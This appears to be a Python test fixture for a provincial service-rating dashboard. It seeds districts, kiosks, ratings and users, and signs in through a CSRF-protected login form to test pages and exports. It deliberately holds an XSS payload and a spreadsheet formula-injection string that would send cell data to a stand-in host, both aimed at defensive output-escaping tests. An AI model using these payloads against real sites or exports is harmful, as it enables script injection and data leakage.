"""A small province for the dashboard's page and export tests: HB with two districts (HB.LS from
``seed_reference``, HB.KB), an officer whose name and a comment that are hostile HTML, kiosk ratings:
CB09 (HB.KB) 40, CB01 (HB.LS) 40 and CB02 (HB.LS) 6, so CB02 is below the minimum n and CB01 hidden
with it (secondary suppression), and one user per role."""

from __future__ import annotations

import re
import uuid
from typing import Any

import httpx

from api.accounts import service
from api.viewer import SESSION_COOKIE
from tests.harness import Harness, seed_reference

HOSTILE = '<script>alert(1)</script><img src=x onerror="alert(2)">'
FORMULA = '=HYPERLINK("http://x.example/?"&A1,"bấm")'
PASSWORD = "correct horse battery"
USERS = {"root": ("admin", None), "so": ("province", None), "lan": ("manager", "HB.LS"), "kb": ("manager", "HB.KB")}


async def kiosk(h: Harness, counter: str) -> dict[str, str]:
    """A kiosk paired to the counter: its ratings are citizens' (an API key's are stored as staff-entered)."""
    code = (await h.post("/api/v1/devices/pairing-codes", {"counter": counter})).json()["code"]
    paired = (await h.client.post("/api/v1/kiosk/pair", json={"pairing_code": code})).json()
    return {"Authorization": f"Bearer {paired['device_token']}"}


async def rate(h: Harness, device: dict[str, str], counter: str, level: int, comment: str | None = None) -> None:
    body: dict[str, Any] = {"idempotency_key": str(uuid.uuid4()), "counter": counter, "level": level}
    if comment:
        body["comment"] = comment
    r = await h.client.post("/api/v1/ratings", json=body, headers=device)
    assert r.status_code == 201, r.text


async def province(h: Harness) -> None:
    await seed_reference(h)
    for path, body in (
        ("/api/v1/units", {"code": "HB.KB", "name": "Huyện Kim Bôi", "kind": "district", "parent": "HB"}),
        ("/api/v1/counters", {"code": "KB-Q1", "unit": "HB.KB", "name": "Quầy 1"}),
        ("/api/v1/officers", {"code": "CB09", "unit": "HB.KB", "full_name": HOSTILE}),
    ):
        assert (await h.post(path, body)).status_code == 201
    for counter, officer in (("KB-Q1", "CB09"), ("LS-Q2", "CB02")):
        duty = await h.client.put(f"/api/v1/counters/{counter}/duty", json={"officer": officer}, headers=h.admin)
        assert duty.is_success
    ls1, ls2, kb1 = [await kiosk(h, c) for c in ("LS-Q1", "LS-Q2", "KB-Q1")]
    for i in range(40):
        await rate(h, ls1, "LS-Q1", 3 if i % 8 else 1, FORMULA if i == 0 else None)
        await rate(h, kb1, "KB-Q1", 3 if i % 4 else 1, HOSTILE if i == 0 else None)
    for i in range(6):
        await rate(h, ls2, "LS-Q2", 3 if i % 2 else 2)
    for name, (role, unit) in USERS.items():
        await service.add_user(h.store, name, role, unit, PASSWORD, actor="cli:test")


async def login(h: Harness, username: str) -> None:
    """Sign in through the login form; the client keeps the session cookie."""
    h.client.cookies.delete(SESSION_COOKIE)
    page = await h.client.get("/login")
    found = re.search(r'name="csrf" value="([^"]+)"', page.text)
    assert found, page.text[:300]
    form = {"csrf": found[1], "username": username, "password": PASSWORD, "next": "/dashboard"}
    r: httpx.Response = await h.client.post("/login", data=form, follow_redirects=False)
    assert r.status_code == 303, r.text[:300]
